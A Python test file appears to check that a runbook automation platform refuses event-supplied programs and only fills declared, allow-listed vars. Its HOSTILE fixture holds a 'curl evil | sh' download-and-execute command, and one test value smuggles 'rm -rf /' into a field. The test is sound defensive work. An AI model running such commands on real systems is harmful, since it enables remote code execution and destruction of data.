"""Events fill slots, not programs: whoever can post an event never writes the runbook that runs.

Reproduced before: condition-engine rendered event fields into any action param, including the
steps and governance of an inline runbook in a ``mode: real`` request. Now an action names a
runbook the org published (by id and version); only the values of its ``vars`` come from the
event, one value each; the runtime accepts only vars the runbook declares, within ``allowed``; and
automation starts a real run only where the org's policy switch is on (off by default).
"""

from __future__ import annotations

import uuid
from typing import Any

import httpx
import pytest

from playbooks_contracts import Envelope
from playbooks_contracts.policy import OrgPolicy
from playbooks_contracts.topics import PLAYBOOK_RUNS, RUNBOOK_REQUESTS, RUNBOOKS_COMPILED, TRIGGERS
from playbooks_dev.testing import Infra, collect, eventually, produce, running_service
from playbooks_platform.errors import NotFound
from playbooks_platform.service import Runtime
from runbook_runtime.org_policy import put_policy
from runbook_runtime.published import get_published

RUNBOOK_ID, VERSION = "say-target", "1"
# What an attacker puts in an event: a whole program, and templates hoping to be expanded.
HOSTILE = {
    "steps": [{"id": "pwn", "type": "cli", "with": {"argv": ["sh", "-c", "curl evil | sh"]}}],
    "governance": {"allowed_commands": ["sh", "curl"]},
    "runbook": {"apiVersion": "runbook/v0", "meta": {"name": "pwn"}, "steps": []},
    "mode": "real",
}


def published_runbook() -> dict[str, Any]:
    return {
        "apiVersion": "runbook/v0",
        "meta": {
            "name": "say-target",
            "version": VERSION,
            "vars": {
                "target": {"default": "none", "allowed": ["db-7", "db-8"]},
                "note": "quiet",
            },
            "governance": {"allowed_commands": ["echo"]},
        },
        "steps": [{"id": "say", "type": "cli", "with": {"argv": ["echo", "{{ .target }}", "{{ .note }}"]}}],
    }


@pytest.fixture(scope="module")
async def stack(infra: Infra):
    async with (
        running_service("condition-engine", infra) as (engine, _, _),
        running_service("runbook-runtime", infra, real_mode_commands=["echo"]) as (runtime_client, runtime, _),
    ):
        yield engine, runtime_client, runtime


async def publish(infra: Infra, runtime: Runtime, org: str) -> None:
    """The org publishes the runbook (as the compiler does), and the runtime has it."""
    doc = published_runbook()
    data = {"playbook_id": RUNBOOK_ID, "version": VERSION, "name": doc["meta"]["name"], "runbook": doc}
    env = Envelope(type="runbook.compiled", org_id=org, source="test", data=data)
    await produce(infra.kafka_bootstrap, RUNBOOKS_COMPILED.name, [env.model_dump(mode="json")], key=org)

    async def stored() -> bool:
        async with runtime.database.tenant_transaction(org) as session:
            try:
                return bool(await get_published(session=session, org_id=org, runbook_id=RUNBOOK_ID, version=VERSION))
            except NotFound:
                return False

    await eventually(stored)


async def set_automation_real_runs(runtime: Runtime, org: str, on: bool) -> None:
    async with runtime.database.tenant_transaction(org) as session:
        await put_policy(session=session, org_id=org, policy=OrgPolicy(automation_real_runs=on), actor="test-admin")


async def playbook(engine: httpx.AsyncClient, infra: Infra, org: str, params: dict[str, Any]) -> httpx.Response:
    body = {
        "name": f"slots {uuid.uuid4().hex[:6]}",
        "trigger": "activity_event",
        "status": "active",
        "conditions": [{"field": "activity.type", "op": "equals", "value": "go"}],
        "actions": [{"type": "enqueue_task", "params": {"queue": "runbook", **params}}],
    }
    return await engine.post("/api/playbooks", json=body, headers=infra.auth(org))


def slot_params(mode: str = "dry-run") -> dict[str, Any]:
    return {
        "runbook_id": RUNBOOK_ID,
        "runbook_version": VERSION,
        "mode": mode,
        "vars": {"target": "{{ activity.metadata.target }}"},
    }


async def fire(infra: Infra, org: str, metadata: dict[str, Any]) -> Envelope:
    """An activity event whose free-form metadata is the attacker's."""
    data = {"activity": {"type": "go", "metadata": metadata}}
    event = Envelope(type="activity_event", org_id=org, source="test", data=data)
    await produce(infra.kafka_bootstrap, TRIGGERS.name, [event.model_dump(mode="json")], key=org)
    return event


async def runs_of(client: httpx.AsyncClient, infra: Infra, org: str, count: int) -> list[dict[str, Any]]:
    async def check() -> list[dict[str, Any]] | None:
        found = (await client.get("/v1/runs", headers=infra.auth(org))).json()["items"]
        return found if len(found) >= count else None

    return await eventually(check, timeout=20)


def for_org(org: str):
    return lambda r: r.value.get("org_id") == org


# -- what a playbook may say -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("params", "part", "reason"),
    [
        (
            {"runbook": {"apiVersion": "runbook/v0", "meta": {"name": "x"}, "steps": []}},
            "params.runbook",
            "inline runbooks are refused",
        ),
        (
            {"runbook": "{{ activity.runbook }}"},
            "params.runbook",
            "inline runbooks are refused",
        ),
        (
            {"runbook_id": "{{ activity.runbook_id }}", "runbook_version": "1"},
            "params.runbook_id",
            "only the values of vars",
        ),
        ({"runbook_id": RUNBOOK_ID, "runbook_version": "{{ activity.v }}"}, "params.runbook_version", "only the"),
        ({"runbook_id": RUNBOOK_ID, "runbook_version": "1", "mode": "{{ activity.mode }}"}, "params.mode", "only"),
        (
            {"runbook_id": RUNBOOK_ID, "runbook_version": "1", "mode": "replay", "scenario": "{{ activity.s }}"},
            "params.scenario",
            "only the values of vars",
        ),
        (
            {"runbook_id": RUNBOOK_ID, "runbook_version": "1", "vars": {"target": {"steps": "{{ activity.steps }}"}}},
            "params.vars",
            "object of strings",
        ),
        ({"runbook_ref": "{{ activity.file }}"}, "params.runbook_ref", "only the values of vars"),
        ({"runbook_id": RUNBOOK_ID}, "params.runbook_version", "non-empty string"),
        ({"runbook_id": RUNBOOK_ID, "runbook_version": "1", "steps": []}, "params.steps", "unknown key"),
    ],
)
async def test_a_playbook_cannot_let_the_event_choose_the_program(
    stack, infra: Infra, org: str, params: dict[str, Any], part: str, reason: str
) -> None:
    engine, _, _ = stack
    r = await playbook(engine, infra, org, params)
    assert r.status_code == 422, r.text
    assert part in r.text and reason in r.text


async def test_a_templated_queue_cannot_turn_a_task_into_a_runbook_request(stack, infra: Infra, org: str) -> None:
    engine, _, _ = stack
    body = {
        "name": "queue from the event",
        "trigger": "activity_event",
        "conditions": [],
        "actions": [{"type": "enqueue_task", "params": {"queue": "{{ activity.queue }}", "runbook": HOSTILE}}],
    }
    r = await engine.post("/api/playbooks", json=body, headers=infra.auth(org))
    assert r.status_code == 422 and "params.queue" in r.text, r.text


# -- what an event can do --------------------------------------------------------------------------


async def test_a_hostile_event_only_fills_the_declared_var(stack, infra: Infra, org: str) -> None:
    engine, rt, runtime = stack
    await publish(infra, runtime, org)
    r = await playbook(engine, infra, org, slot_params())
    assert r.status_code == 201, r.text

    # The event carries a whole program and templates besides the one value the action reads.
    await fire(infra, org, {"target": "db-7", **HOSTILE, "note": "{{ .target }}"})
    [run] = await runs_of(rt, infra, org, 1)
    assert run["mode"] == "dry-run" and run["status"] == "planned"
    assert run["vars"] == {"target": "db-7", "note": "quiet"}
    # The published runbook's one step, nothing from the event.
    assert [(s["step_id"], s["argv"], s["verdict"]) for s in run["plan"]] == [
        ("say", ["echo", "db-7", "quiet"], "allowed")
    ]


async def test_event_values_are_checked_against_the_declaration(stack, infra: Infra, org: str) -> None:
    engine, rt, runtime = stack
    await publish(infra, runtime, org)
    assert (await playbook(engine, infra, org, slot_params())).status_code == 201

    # Not an allowed value, an object where a value goes, a template hoping to be expanded.
    outside = await fire(infra, org, {"target": "db-9; rm -rf /"})
    template = await fire(infra, org, {"target": "{{ .note }}"})
    whole = await fire(infra, org, {"target": HOSTILE})
    dead = await collect(infra.kafka_bootstrap, RUNBOOK_REQUESTS.dlq, where=for_org(org), count=2, timeout=20)
    assert len(dead) == 2
    for d in dead:
        assert "var 'target' got a value outside the ones runbook 'say-target' allows" in d.headers["dlq.error"]
        assert d.value["causation_id"] in {str(outside.id), str(template.id)}
    [failed] = await collect(
        infra.kafka_bootstrap,
        PLAYBOOK_RUNS.name,
        where=lambda r: r.value["org_id"] == org and r.value["data"]["event_id"] == str(whole.id),
    )
    [failed_run] = failed.value["data"]["runs"]
    assert failed_run["status"] == "failed"
    assert "a var takes a single value" in failed_run["error"]
    assert (await rt.get("/v1/runs", headers=infra.auth(org))).json()["items"] == []


async def test_real_runs_from_automation_need_the_orgs_switch(stack, infra: Infra, org: str) -> None:
    engine, rt, runtime = stack
    await publish(infra, runtime, org)
    assert (await playbook(engine, infra, org, slot_params(mode="real"))).status_code == 201

    refused = await fire(infra, org, {"target": "db-7"})  # the switch is off by default
    [dead] = await collect(infra.kafka_bootstrap, RUNBOOK_REQUESTS.dlq, where=for_org(org), timeout=20)
    assert dead.value["causation_id"] == str(refused.id)
    assert "automation_real_runs off" in dead.headers["dlq.error"]
    assert (await rt.get("/v1/runs", headers=infra.auth(org))).json()["items"] == []

    await set_automation_real_runs(runtime, org, True)
    await fire(infra, org, {"target": "db-8"})

    async def finished() -> list[dict[str, Any]] | None:
        found = (await rt.get("/v1/runs", headers=infra.auth(org))).json()["items"]
        return found if found and found[0]["status"] not in ("pending", "running") else None

    [run] = await eventually(finished, timeout=20)
    assert run["mode"] == "real" and run["status"] == "passed", run
    assert run["vars"]["target"] == "db-8" and run["playbook_id"] == RUNBOOK_ID

    await set_automation_real_runs(runtime, org, False)  # and off again refuses again
    await fire(infra, org, {"target": "db-7"})
    dead = await collect(infra.kafka_bootstrap, RUNBOOK_REQUESTS.dlq, where=for_org(org), count=2, timeout=20)
    assert len(dead) == 2 and len((await rt.get("/v1/runs", headers=infra.auth(org))).json()["items"]) == 1


# -- what any producer on runbook-requests.v1 can do -----------------------------------------------


def request(org: str, **data: Any) -> dict[str, Any]:
    body = {"request_id": f"req-{uuid.uuid4().hex[:8]}", **data}
    return Envelope(type="runbook.requested", org_id=org, source="test", data=body).model_dump(mode="json")


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        ({"runbook": published_runbook(), "mode": "dry-run"}, "inline runbooks are refused"),
        (
            {"runbook_id": RUNBOOK_ID, "runbook_version": VERSION, "vars": {"steps": "x"}},
            "var 'steps' is not declared by runbook 'say-target' (declared: note, target)",
        ),
        (
            {"runbook_id": RUNBOOK_ID, "runbook_version": VERSION, "vars": {"note": "--force"}},
            "starting with '-'",
        ),
        ({"runbook_id": RUNBOOK_ID, "runbook_version": "2"}, "no published runbook say-target@2"),
        ({"runbook_id": RUNBOOK_ID}, "needs runbook_version"),
    ],
)
async def test_the_runtime_refuses_requests_that_bring_a_program(
    stack, infra: Infra, org: str, data: dict[str, Any], reason: str
) -> None:
    _, rt, runtime = stack
    await publish(infra, runtime, org)
    await set_automation_real_runs(runtime, org, True)  # even where real runs are allowed
    await produce(infra.kafka_bootstrap, RUNBOOK_REQUESTS.name, [request(org, **data)], key=org)
    [dead] = await collect(infra.kafka_bootstrap, RUNBOOK_REQUESTS.dlq, where=for_org(org), timeout=20)
    assert reason in dead.headers["dlq.error"]
    assert (await rt.get("/v1/runs", headers=infra.auth(org))).json()["items"] == []


async def test_a_published_version_never_changes(stack, infra: Infra, org: str) -> None:
    _, _, runtime = stack
    await publish(infra, runtime, org)
    changed = published_runbook()
    changed["steps"][0]["with"]["argv"] = ["echo", "changed"]
    data = {"playbook_id": RUNBOOK_ID, "version": VERSION, "name": "say-target", "runbook": changed}
    env = Envelope(type="runbook.compiled", org_id=org, source="test", data=data)
    await produce(infra.kafka_bootstrap, RUNBOOKS_COMPILED.name, [env.model_dump(mode="json")], key=org)
    [dead] = await collect(infra.kafka_bootstrap, RUNBOOKS_COMPILED.dlq, where=for_org(org), timeout=20)
    assert "already published with other content" in dead.headers["dlq.error"]
    async with runtime.database.tenant_transaction(org) as session:
        stored = await get_published(session=session, org_id=org, runbook_id=RUNBOOK_ID, version=VERSION)
    assert stored == published_runbook()
